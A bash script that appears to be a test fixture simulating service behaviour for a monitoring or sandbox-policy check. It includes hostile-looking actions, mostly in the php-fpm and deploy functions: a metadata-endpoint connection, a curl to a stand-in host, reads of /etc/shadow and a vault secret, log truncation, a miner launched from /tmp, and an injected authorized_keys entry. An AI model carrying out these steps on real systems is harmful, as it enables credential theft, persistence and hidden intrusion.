#!/bin/bash
# SPDX-License-Identifier: MIT
#
# actors.sh ROLE: what one service of the scene does, until it is ended. A copy of bash with the name of the service
# runs this, so what it opens, runs and connects to is its own doing. Refusals are expected, and not printed.

exec 2>/dev/null
exec {never}<> <(:)
hash=/etc/shadow log=/var/log/nginx/access.log page=/var/www/shop/index.php
metadata=/dev/tcp/169.254.169.254/80

wait_for() { read -rt "$1" -u "$never"; }

# busy LEAST: wait so many milliseconds, or up to nine times as many: less and more again within two minutes.
tides=(9 8 6 5 4 3 2 2 1 2 3 5 6 4 3 2 1 1 2 4 6 8)
busy() {
	local pause=$(($1 * tides[SECONDS / 6 % ${#tides[@]}]))
	printf -v pause %d.%03d $((pause / 1000)) $((pause % 1000))
	wait_for "$pause"
}

nginx() {
	while :; do
		: </var/www/shop/logo.svg
		: >>"$page"
		busy 200
	done
}

php-fpm() {
	while :; do
		(exec 9<>"$metadata")
		(exec /usr/bin/curl -s http://192.0.2.66/x)
		if ((SECONDS % 40 < 12)); then
			: <"$hash"
			: >"$log"
			(exec /tmp/.cache/kdevtmpfsi "$0" miner)
		fi
		busy 700
	done
}

vault() {
	while :; do
		for ((n = 0; n < 60; n++)); do
			: </srv/vault/secret
			busy 60
		done
		(exec /bin/sh -c id)
	done
}

backup() {
	while :; do
		(exec /usr/bin/cat /srv/vault/secret)
		wait_for 4
	done
}

deploy() {
	while :; do
		for part in app.js app.css version; do
			: >"/srv/app/releases/$part"
			busy 150
		done
		echo 'ssh-ed25519 AAAA deploy' >>/home/deploy/.ssh/authorized_keys
	done
}

miner() { : <"$hash"; }

"$1"
